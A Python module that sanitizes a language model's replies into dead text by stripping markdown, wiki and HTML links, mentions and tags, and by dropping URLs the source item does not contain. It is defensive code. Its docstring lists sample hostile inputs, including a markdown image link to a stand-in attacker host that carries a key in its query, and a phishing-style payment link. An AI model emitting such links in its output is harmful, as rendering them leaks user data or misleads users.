"""Turning a model's words into dead text: nothing that a tracker, a mail client or a page could bring to life.

Renderers show text letter for letter; this is the second wall behind that promise, and it also keeps a link that the
model made up from being read at all. Words survive, targets do not:

    [pay here](https://evil.example)   ->  pay here
    ![](https://evil.example/?d=key)   ->  (nothing)
    <a href="...">pay</a>              ->  pay
    [~accountid:123]                   ->  accountid:123
    https://evil.example/x             ->  (link left out), unless the item itself says exactly that
"""

from __future__ import annotations

import re
from collections.abc import Collection

from languages import say, to_say
from prompts.invisible import visible

LINK_LEFT_OUT = to_say("(link left out)")
_LONGEST = 2_000

_MARKDOWN_LINK = re.compile(r"!?\[([^\[\]]{0,300})\]\([^()]{0,1000}(?:\([^()]{0,200}\)[^()]{0,200})?\)")
_WIKI_LINK = re.compile(r"(?<!\[)\[([^\[\]|]{1,300})\|[^\[\]]{1,1000}\]")
_WIKI_MENTION = re.compile(r"\[~([^\[\]]{1,200})\]")
_BOARD_MENTION = re.compile(r"@<[^<>]{1,100}>")
# A tag that carries an attribute; a bare <tag> may be what a criterion is about.
_HTML_TAG = re.compile(r"<[A-Za-z][A-Za-z0-9\-]{0,30}[\s/][^<>]{0,1000}>|</a>", re.IGNORECASE)
_LINK = re.compile(
    r"(?<![A-Za-z0-9+.\-])(?:[A-Za-z][A-Za-z0-9+.\-]{1,20}://|www\.|(?:mailto|tel|javascript|data|vbscript|callto):)"
    r"(?:\[\[[A-Za-z]{4,6}_\d{1,6}\]\]|[^\s<>\"'|\[\]{}()])+",
    re.IGNORECASE,
)
_SPACES = re.compile(r"\s+")
_BULLET = re.compile(r"^(?:[-*\u2022]|\d{1,2}[.)])\s+")


def links_in(text: str) -> frozenset[str]:
    """The links that stand in a text, letter for letter."""
    return frozenset(match[0].rstrip(".,:;!?") for match in _LINK.finditer(text))


def plain_line(text: str, known_links: Collection[str] = ()) -> str:
    """One line of dead text, without a leading bullet; links stay only where they are among the known ones.

    Reads the first 2,000 characters: no field of a reply is longer.
    """
    text, before = visible(text[:_LONGEST]), ""
    while text != before:  # taking one construct off can complete the one around it
        before = text
        for construct in (_MARKDOWN_LINK, _WIKI_LINK, _WIKI_MENTION):
            text = construct.sub(r"\1", text)
        text = _HTML_TAG.sub("", _BOARD_MENTION.sub("", text))

    def link(match: re.Match[str]) -> str:
        bare = match[0].rstrip(".,:;!?")
        return match[0] if bare in known_links else say(LINK_LEFT_OUT) + match[0][len(bare) :]

    line = _SPACES.sub(" ", _LINK.sub(link, text)).replace("](", "] (").replace("[~", "~")  # nor half of a construct
    return _BULLET.sub("", line.strip()).strip()
